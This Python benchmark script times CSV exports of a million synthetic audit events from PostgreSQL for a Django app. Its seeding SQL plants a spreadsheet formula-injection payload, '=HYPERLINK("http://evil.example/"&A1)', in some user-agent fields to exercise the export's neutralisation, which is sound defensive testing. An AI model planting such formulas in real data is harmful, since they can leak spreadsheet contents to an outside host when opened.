"""Benchmark: export 1,000,000 audit events to CSV beside PostgreSQL's own COPY.

Not a test (pytest never collects it). Run from the repository root:

    .venv/bin/python bench/export_benchmark.py [--rows 1000000] [--keep]

It creates its own database (``sc_audit_bench`` on the PostgreSQL at
BENCH_PG, default ``postgres://postgres@127.0.0.1:5432``), migrates it, seeds
events with one ``INSERT ... SELECT ... FROM generate_series`` per step, and
measures, at 100,000 rows and at the full count, each in a fresh subprocess
writing to /dev/null:

- ``psql``: the same COPY run by ``psql`` into /dev/null (the least client
  work there is: PostgreSQL's own rate);
- ``copy``: PostgreSQL's own ``COPY (SELECT * ... ORDER BY id) TO STDOUT WITH
  CSV`` through psycopg's ``copy()`` (the reference rate);
- ``export``: the app's export function (``write_export``), which on
  PostgreSQL streams PostgreSQL's CSV with the neutralisation done in SQL;
- ``python``: the same function forced onto the Python ``csv`` path (what
  SQLite uses), for comparison.

Peak memory is the subprocess's ``ru_maxrss`` (not measured for psql), beside
its RSS before the export started (Django loaded, connected), so the growth is
visible.

Seeding: the rows are generated in SQL for speed, so they carry placeholder
``prev_hash``/``chain_hash`` values and are NOT hash-chained (``verify_audit``
would report the first one). The append-only trigger concerns UPDATE and
DELETE only, so these INSERTs need no bypass. About 1 row in 50 has a user
agent starting with ``=`` so that neutralisation has work to do. The database
is dropped at the end unless ``--keep``.
"""

import argparse
import json
import os
import platform
import resource
import subprocess
import sys
import time
from pathlib import Path

import psycopg

ROOT = Path(__file__).resolve().parent.parent
DB_NAME = "sc_audit_bench"
SERVER = os.environ.get("BENCH_PG", "postgres://postgres@127.0.0.1:5432")

SEED_SQL = """
INSERT INTO sessions_audit_event (
  created_at, event_type, actor_id, actor_label, subject_id, subject_label,
  session_ref, method, reason, ip, user_agent, data, prev_hash, chain_hash
)
SELECT
  timestamptz '2026-01-01 00:00:00+00' + g * interval '17 seconds'
    + (g %% 1000) * interval '1 microsecond',
  (ARRAY['login_succeeded', 'session_created', 'login_failed', 'session_revoked',
         'logged_out', 'session_rotated'])[1 + g %% 6],
  CASE WHEN g %% 3 = 0 THEN NULL ELSE 1 + g %% 5000 END,
  CASE WHEN g %% 3 = 0 THEN '' ELSE 'user' || (1 + g %% 5000) END,
  1 + g %% 5000,
  'user' || (1 + g %% 5000),
  substr(md5(g::text), 1, 32),
  (ARRAY['password', 'passkey'])[1 + g %% 2],
  (ARRAY['', '', 'bad_credentials', 'admin', 'self', 'logout'])[1 + g %% 6],
  ('10.' || (g %% 256) || '.' || ((g / 256) %% 256) || '.' || (g %% 200 + 1))::inet,
  CASE WHEN g %% 50 = 0 THEN '=HYPERLINK("http://evil.example/"&A1)'
       ELSE 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/'
            || (120 + g %% 14) || '.0' END,
  CASE WHEN g %% 4 = 0 THEN '{}'::jsonb
       ELSE jsonb_build_object('username', 'user' || (g %% 5000), 'n', g) END,
  md5(g::text) || md5((g + 1)::text),
  md5((g + 1)::text) || md5(g::text)
FROM generate_series(%(first)s::bigint, %(last)s::bigint) AS g
"""


def _admin(sql: str) -> None:
    with psycopg.connect(f"{SERVER}/postgres", autocommit=True) as conn:
        conn.execute(sql)


def _django(db_url: str) -> None:
    os.environ.update(
        DATABASE_URL=db_url,
        DJANGO_SETTINGS_MODULE="project.settings",
        DEBUG="false",
        SECRET_KEY="benchmark-only-" + "x" * 40,
    )
    sys.path.insert(0, str(ROOT))
    import django

    django.setup()


def measure(kind: str, db_url: str) -> dict:
    """Child process: one export to /dev/null, timed, with memory figures."""
    _django(db_url)
    from django.db import connection

    from sessions_audit.export import write_export
    from sessions_audit.models import Event

    connection.ensure_connection()
    baseline = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    with open(os.devnull, "wb") as out:
        if kind == "copy":
            rows = 0
            sql = (
                "COPY (SELECT * FROM sessions_audit_event ORDER BY id) "
                "TO STDOUT WITH (FORMAT csv)"
            )
            with connection.cursor() as cursor, cursor.cursor.copy(sql) as copy:
                for row in copy:
                    out.write(row)
                    rows += 1
        else:
            events = Event.objects.all()
            rows = write_export(events, out, use_copy=(kind == "export"))
    seconds = time.perf_counter() - start
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return {
        "kind": kind,
        "rows": rows,
        "seconds": round(seconds, 3),
        "rows_per_s": round(rows / seconds),
        "rss_before_mib": round(baseline / 1024, 1),
        "peak_rss_mib": round(peak / 1024, 1),
    }


def _psql(db_url: str, rows: int) -> dict:
    """PostgreSQL's COPY with the least client work: psql writing to /dev/null."""
    sql = (
        "COPY (SELECT * FROM sessions_audit_event ORDER BY id) "
        "TO STDOUT WITH (FORMAT csv)"
    )
    start = time.perf_counter()
    with open(os.devnull, "wb") as out:
        subprocess.run(["psql", db_url, "-qc", sql], check=True, stdout=out)
    seconds = time.perf_counter() - start
    return {
        "kind": "psql",
        "rows": rows,
        "seconds": round(seconds, 3),
        "rows_per_s": round(rows / seconds),
        "rss_before_mib": None,
        "peak_rss_mib": None,
    }


def _child(kind: str, db_url: str) -> dict:
    out = subprocess.run(
        [sys.executable, __file__, "--measure", kind, "--db-url", db_url],
        check=True,
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    return json.loads(out.stdout.strip().splitlines()[-1])


def _seed(db_url: str, first: int, last: int) -> float:
    start = time.perf_counter()
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute(SEED_SQL, {"first": first, "last": last})
        conn.execute("VACUUM ANALYZE sessions_audit_event")
    return time.perf_counter() - start


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--small", type=int, default=100_000)
    parser.add_argument("--keep", action="store_true")
    parser.add_argument(
        "--python-max",
        type=int,
        default=10_000_000,
        help="Skip the slow Python path above this many rows.",
    )
    parser.add_argument("--measure", help=argparse.SUPPRESS)
    parser.add_argument("--db-url", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.measure:
        print(json.dumps(measure(args.measure, args.db_url)))
        return

    db_url = f"{SERVER}/{DB_NAME}"
    _admin(f"DROP DATABASE IF EXISTS {DB_NAME}")
    _admin(f"CREATE DATABASE {DB_NAME}")
    try:
        subprocess.run(
            [sys.executable, "manage.py", "migrate", "-v0"],
            check=True,
            cwd=ROOT,
            env={**os.environ, "DATABASE_URL": db_url},
        )
        results = []
        seeded = 0
        for target in (args.small, args.rows):
            took = _seed(db_url, seeded + 1, target)
            print(f"seeded {target:,} rows (+{target - seeded:,} in {took:.1f}s)")
            seeded = target
            for kind in ("psql", "copy", "export", "python"):
                if kind == "python" and target > args.python_max:
                    continue
                result = (
                    _psql(db_url, target) if kind == "psql" else _child(kind, db_url)
                )
                results.append(result)
                print(json.dumps(result), flush=True)
        _report(results)
    finally:
        if not args.keep:
            _admin(f"DROP DATABASE IF EXISTS {DB_NAME} WITH (FORCE)")


def _report(results: list[dict]) -> None:
    with psycopg.connect(f"{SERVER}/postgres") as conn:
        server = conn.execute("SHOW server_version").fetchone()[0]
    print()
    print(
        f"Machine: {platform.node()}, {os.cpu_count()} CPUs, "
        f"{platform.platform()}, Python {platform.python_version()}, "
        f"PostgreSQL {server}, psycopg {psycopg.__version__}; "
        f"{time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}"
    )
    print()
    print(
        "| rows | path | seconds | rows/s | vs psql COPY | vs psycopg COPY "
        "| RSS before | peak RSS |"
    )
    print("|---:|---|---:|---:|---:|---:|---:|---:|")
    rates: dict[tuple[str, int], int] = {}
    for r in results:
        rates[r["kind"], r["rows"]] = r["rows_per_s"]
    for r in results:
        psql = r["rows_per_s"] / rates["psql", r["rows"]]
        copy = r["rows_per_s"] / rates["copy", r["rows"]]
        before = "" if r["rss_before_mib"] is None else f"{r['rss_before_mib']} MiB"
        peak = "" if r["peak_rss_mib"] is None else f"{r['peak_rss_mib']} MiB"
        print(
            f"| {r['rows']:,} | {r['kind']} | {r['seconds']} | {r['rows_per_s']:,} "
            f"| {psql:.2f} | {copy:.2f} | {before} | {peak} |"
        )


if __name__ == "__main__":
    main()
